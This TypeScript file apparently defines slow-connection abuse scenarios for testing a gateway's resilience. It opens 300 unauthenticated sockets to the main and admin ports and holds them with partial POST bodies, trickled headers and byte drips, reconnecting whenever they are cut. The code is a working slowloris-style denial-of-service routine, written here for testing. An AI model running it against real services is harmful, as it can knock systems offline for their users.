/** Someone without any token who opens sockets and holds on to them, and opens new ones when they are cut. */
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Scenario, Tally } from './scenario.ts';

const SOCKETS = 300;
/** Milliseconds between two bytes. */
const DRIP_EVERY = 2000;
/** Of those that were cut; a flood of new connections is another abuse. */
const REOPEN_AFTER = 100;

const BODY = 'Content-Length: 100000\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n';

/** What is written at first, and then every two seconds. */
const HOLDS: readonly ((host: string) => readonly [string, string])[] = [
  (host) => [`POST /approvals/x HTTP/1.1\r\nHost: ${host}\r\n${BODY}half`, ''],
  (host) => [`POST /slack/link HTTP/1.1\r\nHost: ${host}\r\n${BODY}half`, ''],
  (host) => [`POST /slack/events HTTP/1.1\r\nHost: ${host}\r\n${BODY}half`, ''],
  (host) => [`POST /api HTTP/1.1\r\nHost: ${host}\r\n${BODY}`, 'x'],
  (host) => [`POST /nothing HTTP/1.1\r\nHost: ${host}\r\n${BODY}`, 'x'],
  (host) => [`POST /auth/sign-out HTTP/1.1\r\nHost: ${host}\r\n${BODY}`, 'x'],
  (host) => [`GET /nothing HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `, 'x'],
  (host) => [
    `GET /nothing HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
    `GET /nothing HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
  ],
  () => ['', '\r\n'],
  () => ['', ''],
];

const hold = (url: string, index: number, signal: AbortSignal): Promise<string> =>
  new Promise((resolve) => {
    const { hostname, port, host } = new URL(url);
    const [first, more] = (HOLDS[index % HOLDS.length] ?? HOLDS[0])?.(host) ?? ['', ''];
    const socket = connect({ host: hostname, port: Number(port), allowHalfOpen: true });
    let outcome = 'closed';
    socket.once('connect', () => socket.write(first));
    socket.on('data', () => {});
    socket.on('error', (error: NodeJS.ErrnoException) => {
      outcome = error.code ?? error.message;
    });
    const drip = setInterval(() => more !== '' && socket.write(more), DRIP_EVERY);
    const leave = () => socket.destroy();
    signal.addEventListener('abort', leave, { once: true });
    socket.once('close', () => {
      clearInterval(drip);
      signal.removeEventListener('abort', leave);
      resolve(outcome);
    });
  });

const holdAll = async (url: string, counted: Tally, signal: AbortSignal): Promise<void> => {
  const one = async (index: number) => {
    while (!signal.aborted) {
      const outcome = await hold(url, index, signal);
      counted[outcome] = (counted[outcome] ?? 0) + 1;
      await sleep(REOPEN_AFTER);
    }
  };
  await Promise.all(Array.from({ length: SOCKETS }, (_, index) => one(index)));
};

export const socketScenarios: readonly Scenario[] = [
  {
    name: 'sockets',
    what: `${SOCKETS} sockets without a token that hold on in ten ways, and a gateway with 256 descriptors`,
    descriptors: 256,
    abuse: ({ url }, counted, signal) => holdAll(url, counted, signal),
  },
  {
    name: 'sockets-admin',
    what: `the same ${SOCKETS} sockets on the admin port`,
    descriptors: 256,
    abuse: ({ adminUrl }, counted, signal) => holdAll(adminUrl, counted, signal),
  },
];
